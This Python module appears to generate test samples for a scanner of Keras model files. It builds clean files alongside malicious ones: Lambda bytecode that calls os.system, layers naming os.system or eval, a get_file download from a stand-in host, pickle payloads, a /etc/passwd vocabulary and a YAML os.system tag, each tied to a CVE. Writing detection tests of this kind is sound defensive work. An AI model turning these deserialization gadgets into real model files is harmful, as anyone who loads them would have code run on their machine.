"""Keras v3 files: a zip of config.json, metadata.json and weights."""

import base64
import json

from . import marshal
from .registry import CLEAN, COMMAND, HOST, INCOMPLETE, MALICIOUS, SUSPICIOUS
from .texts import pretty
from .torch import EVIL, WHAT
from .zipwriter import Member, zip_file

METADATA = pretty({"keras_version": "3.5.0", "date_saved": "2024-01-02@03:04:05"}).encode()
# An HDF5 file without groups: signature, superblock version 0, a root entry that is not set.
EMPTY_H5 = b"\x89HDF\r\n\x1a\n" + bytes([0, 0, 0, 0, 0, 8, 8, 0]) + bytes([4, 0, 16, 0]) + bytes(4) + bytes(8) + b"\xff" * 8 + (96).to_bytes(8, "little") + b"\xff" * 8 + bytes(40)


def layer(class_name, config, module="keras.layers", registered=None, **extra):
    return {"module": module, "class_name": class_name, "config": config, "registered_name": registered, **extra}


def sequential(*layers, **config):
    return {"module": "keras", "class_name": "Sequential", "registered_name": None,
            "config": {"name": "sequential", "trainable": True, "layers": [
                layer("InputLayer", {"batch_shape": [None, 4], "dtype": "float32", "name": "input"}), *layers], **config}}


def keras_file(config, extra=(), text=None):
    text = json.dumps(config).encode() if text is None else text
    return zip_file([Member("metadata.json", METADATA), Member("config.json", text), *extra])


def code_object(packed):
    return {"class_name": "__lambda__", "config": {"code": base64.b64encode(packed).decode(), "defaults": None, "closure": None}}


def add_samples(corpus):
    def add(name, verdict, data, what, why):
        corpus.add(f"keras/{name}", verdict, data, what, why)

    dense = layer("Dense", {"name": "dense", "units": 2, "activation": "relu", "kernel_initializer": {
        "module": "keras.initializers", "class_name": "GlorotUniform", "config": {"seed": None}, "registered_name": None}})
    honest = sequential(dense)
    honest["compile_config"] = {"optimizer": {"module": "keras.optimizers", "class_name": "Adam", "config": {"learning_rate": 0.001}, "registered_name": None}, "loss": "mse", "metrics": ["mae"]}
    add("sequential.keras", CLEAN, keras_file(honest), "a Sequential of one Dense layer with an optimizer", "the ordinary file")
    add("layer-named-lambda.keras", CLEAN, keras_file(sequential(layer("Dense", {"name": "lambda_1", "units": 2}), layer("Functional", {"name": "TFOpLambda", "layers": []}, "keras.src.models.functional"))),
        "layers that are only named lambda", "names are not classes")
    add("custom-registered.keras", CLEAN, keras_file(sequential(layer("Scale", {"name": "scale", "factor": 2.0}, None, "weighin_example>Scale"))), "a registered custom layer", "needs the user's own code to load: worth a note")
    add("vocabulary-list.keras", CLEAN, keras_file(sequential(layer("StringLookup", {"name": "lookup", "vocabulary": ["a", "b", "../c"]}))), "a StringLookup with its vocabulary as a list", "the look-alike of a vocabulary path")
    add("unpacked/config.json", CLEAN, pretty(honest), "the config of an unpacked model folder", "the same rules without the zip")
    evil_layer = layer("Lambda", {"name": "prepare", "function": code_object(marshal.system_311()), "arguments": {}})
    add("lambda-evil.keras", MALICIOUS, keras_file(sequential(evil_layer)), f"a Lambda layer whose bytecode is {WHAT}", "CVE-2024-3660: bytecode runs when the model is used")
    add("lambda-evil-py38.keras", MALICIOUS, keras_file(sequential(layer("Lambda", {"function": code_object(marshal.system_38())}))), "the same with bytecode of CPython 3.8", "layouts differ by version")
    add("lambda-evil-old-list.keras", MALICIOUS, keras_file(sequential(layer("Lambda", {"function": [base64.b64encode(marshal.system_38()).decode(), None, None], "function_type": "lambda"}))), "a Lambda as Keras 2 wrote it", "a list instead of an object")
    add("lambda-nested.keras", MALICIOUS, keras_file(sequential(layer("Bidirectional", {"layer": layer("TimeDistributed", {"layer": evil_layer})}))), "a Lambda layer inside two wrappers", "every object of the tree is visited")
    add("lambda-in-loss.keras", MALICIOUS, keras_file({**honest, "compile_config": {"optimizer": "adam", "loss": code_object(marshal.system_311())}}), "a __lambda__ object as loss", "code objects stand in more places than Lambda layers")
    add("lambda-in-submodel.keras", MALICIOUS, keras_file(sequential(layer("Functional", {"name": "inner", "layers": [evil_layer]}, "keras.src.models.functional"))), "a Lambda layer in a nested model", "the same")
    lambda_os = layer("Lambda", {"name": "x", "function": "system", "function_type": "function", "module": "os"})
    add("lambda-module-os.keras", MALICIOUS, keras_file(sequential(lambda_os)), "a Lambda layer that names os.system", "Keras 2 takes in what the module holds")
    add("config-list.keras", INCOMPLETE, keras_file([1, 2]), "a configuration that is a list", "Keras builds a model from an object")
    add("config-missing.keras", INCOMPLETE, zip_file([Member("metadata.json", METADATA), Member("model.weights.h5", EMPTY_H5)]), "a Keras file without a configuration", "the first thing that a loader reads is not there")
    add("config-no-json.keras", INCOMPLETE, keras_file(None, text=b"\xff\xfe{}"), "a configuration that is no JSON in any encoding", "what cannot be read is not examined")
    for case, module, name, config, why in [
        ("module-os", "os", "system", {"command": COMMAND}, "CVE-2025-1550: module and class_name pick any importable function"),
        ("module-subprocess", "subprocess", "Popen", {"args": ["echo", "weighin"]}, "CVE-2025-1550"),
        ("module-builtins-eval", "builtins", "eval", {"source": "0"}, "CVE-2025-1550: builtins is on the loader's own list"),
        ("get-file", "keras.utils", "get_file", {"origin": f"http://{HOST}/x", "extract": True}, "CVE-2025-8747: Keras's own helpers as gadgets"),
        ("load-model", "keras.models", "load_model", {"filepath": "other.keras", "safe_mode": False}, "CVE-2025-8747: loads another file with safe mode off"),
        ("enable-unsafe", "keras.config", "enable_unsafe_deserialization", {}, "CVE-2025-9906: the config switches safe mode off"),
        ("enable-unsafe-src", "keras.src.config", "enable_unsafe_deserialization", {}, "CVE-2025-9906 under the private name"),
    ]:
        add(f"{case}.keras", MALICIOUS, keras_file(sequential(layer(name, config, module))), f"{module}.{name} as a layer", why)
    add("registered-function.keras", MALICIOUS, keras_file(sequential(layer("function", "system", "os", "function"))), "os.system by class_name function", "CVE-2025-1550: functions are named in config")
    add("tensorflow-parts.keras", CLEAN, keras_file(sequential(layer("Zeros", {}, "tensorflow.python.ops.init_ops_v2"), layer("QuantizeWrapper", {}, "tensorflow_model_optimization.python.core.quantization.keras.quantize_wrapper"))),
        "an initialiser of TensorFlow and a layer of its optimisation package", "classes that other names of the project lead to")
    add("unknown-module.keras", SUSPICIOUS, keras_file(sequential(layer("Net", {"width": 3}, "weighin_payload.layers"))), "a layer of an unknown module", "the loader imports the module")
    add("torch-module-wrapper.keras", MALICIOUS, keras_file(sequential(layer("TorchModuleWrapper", {"name": "t", "module": base64.b64encode(EVIL).decode()}))), f"a TorchModuleWrapper whose pickle is {WHAT}", "CVE-2025-49655: the module is a base64 pickle")
    add("tfsm-layer.keras", SUSPICIOUS, keras_file(sequential(layer("TFSMLayer", {"filepath": f"//{HOST}/model", "call_endpoint": "serve"}))), "a TFSMLayer that points at a network path", "CVE-2026-1462: loads another model from there")
    add("vocabulary-path.keras", SUSPICIOUS, keras_file(sequential(layer("StringLookup", {"vocabulary": "/etc/passwd"}))), "a StringLookup whose vocabulary is /etc/passwd", "CVE-2025-12058: reads a local file")
    add("vocabulary-url.keras", SUSPICIOUS, keras_file(sequential(layer("TextVectorization", {"vocabulary": f"http://{HOST}/v.txt"}))), "a TextVectorization whose vocabulary is a URL", "CVE-2025-12058: a request from the loader")
    add("duplicate-config.keras", MALICIOUS, keras_file(honest, [Member("config.json", json.dumps(sequential(evil_layer)).encode())]), "two config.json, the second with an evil Lambda", "readers differ in which one counts")
    add("duplicate-key.keras", MALICIOUS, keras_file(None, text=json.dumps(honest)[:-1].encode() + b', "config": ' + json.dumps(sequential(evil_layer)["config"]).encode() + b"}"), "config twice in one object, the second with an evil Lambda", "JSON readers take the last")
    add("pickle-member.keras", MALICIOUS, keras_file(honest, [Member("assets/lookup/vocabulary.txt", EVIL)]), f"an asset that is a pickle: {WHAT}", "every member is judged by its content")
    add("pickle-named.keras", MALICIOUS, EVIL, f"a bare pickle named .keras: {WHAT}", "a name promises nothing")
    add("config-broken.keras", INCOMPLETE, keras_file(None, text=b'{"class_name": "Sequential", "config": {'), "a config.json that is cut", "a damaged file")
    add("config-deep.keras", INCOMPLETE, keras_file(None, text=b'{"class_name": "Sequential", "config": ' + b"[" * 3000 + b"]" * 3000 + b"}"), "3000 nested arrays in config.json", "not followed to the end")
    add("legacy-config.json", MALICIOUS, pretty({"class_name": "Sequential", "config": {"layers": [{"class_name": "Lambda", "config": {"function": [base64.b64encode(marshal.system_27()).decode(), None, None], "function_type": "lambda"}}]}, "keras_version": "2.2.4"}),
        "a Keras 2 JSON config with a Lambda of Python 2 bytecode", "model_from_json of old files")
    add("legacy-config.yaml", MALICIOUS, "class_name: Sequential\nconfig:\n  - class_name: Dense\n    config: {units: 2}\n  - !!python/object/apply:os.system ['echo weighin']\n", "a Keras YAML config with a python tag", "CVE-2021-37678: loaded with unsafe_load")
    add("superblock-only.h5", INCOMPLETE, EMPTY_H5, "an HDF5 superblock and no root group", "a cut file")
